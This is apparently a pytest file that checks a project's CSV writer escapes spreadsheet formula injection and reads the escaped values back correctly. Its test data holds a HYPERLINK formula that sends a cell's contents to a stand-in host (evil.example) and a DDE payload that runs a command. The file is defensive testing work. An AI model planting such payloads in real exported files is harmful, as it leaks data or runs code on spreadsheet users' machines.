"""CSV files are safe in spreadsheets: no cell is a formula, and our readers restore the values."""

import ast
import csv
import io
import itertools

import pytest
import torch
from PIL import Image
from test_layers import MODULES, called, tree

from sft_exp.check import predictions
from sft_exp.core.types import Spec
from sft_exp.data import splits, tables
from sft_exp.data.readers.files import read_table
from sft_exp.label.sheet import Sheet
from sft_exp.predict import files
from sft_exp.predict.inference import Predictor

LINK = '=HYPERLINK("http://evil.example?x="&A1)'
FORMULAS = (LINK, "+1+cmd|'/C calc'!A0", "-2+3", "@SUM(1)", "\tx", "\r=1", "'=1", "''+1")


def written(*rows):
    out = io.StringIO()
    tables.Writer(out).writerows(rows)
    return out.getvalue()


def cells(text):
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("cell", FORMULAS)
def test_no_cell_begins_a_formula(cell):
    ((read,),) = cells(written([cell]))
    assert read.startswith("'")
    assert tables.restored(read) == cell


@pytest.mark.parametrize("cell", [-1.5, "-0.25", "1e-3", "", None, 7, "'quoted'", "a=b", "it's"])
def test_other_cells_stay(cell):
    assert cells(written([cell, "x"])) == [["" if cell is None else str(cell), "x"]]


def test_what_is_written_is_read():
    """All texts of up to three characters that matter."""
    for length in range(4):
        for letters in itertools.product("'=+-@\t\r\n1a,;\"", repeat=length):
            text = "".join(letters)
            ((read, _),) = cells(written([text, "x"]))
            assert tables.restored(read) == text
            assert tables.number(read) or not read.startswith(tuple("=+-@\t\r\n"))


def test_every_csv_is_written_by_one_writer():
    for module in MODULES:
        calls = [n for n in ast.walk(tree(module)) if isinstance(n, ast.Call)]
        writers = {called(n) for n in calls} & {("csv", "writer"), ("csv", "DictWriter")}
        assert not writers or module == "data.tables", module


def test_predictions_of_files_with_such_names(tmp_path):
    Image.new("L", (8, 8), 9).save(tmp_path / "=1+1.png")
    model = Predictor(
        Spec((1, 8, 8), (LINK, "b")), True, lambda x: torch.tensor([[5.0, 0.0]] * len(x))
    )
    out = io.StringIO()
    assert not files.predict(model, ["=1+1.png"], out)
    assert cells(out.getvalue())[1][:2] == ["'=1+1.png", f"'{LINK}"]


def test_a_sheet_of_labels_is_read_back(tmp_path):
    sheet = Sheet("labels", ["file", "label"], [LINK, "-x"], ["@1", "b"], [["+a", "-x"]])
    answers = {"@1": LINK, "b": "-x"}
    text = sheet.table(answers)
    assert not any(cell.startswith(tuple("=+-@")) for row in cells(text) for cell in row)
    (tmp_path / "labels.csv").write_text(text)
    assert sheet.answers(tmp_path / "labels.csv") == answers
    assert splits.read(tmp_path / "labels.csv") == {**answers, "+a": "-x"}
    table = read_table(tmp_path / "labels.csv", "dataset.labels", ("file", "label"))
    assert {row["file"]: row["label"] for _, row in table.lines} == {**answers, "+a": "-x"}


def test_predictions_that_are_checked_are_read_back(tmp_path):
    (tmp_path / "p.csv").write_text(written(["id", "label"], ["=1", "-x"]))
    assert predictions.rows(tmp_path / "p.csv", ["id", "label"]) == [{"id": "=1", "label": "-x"}]
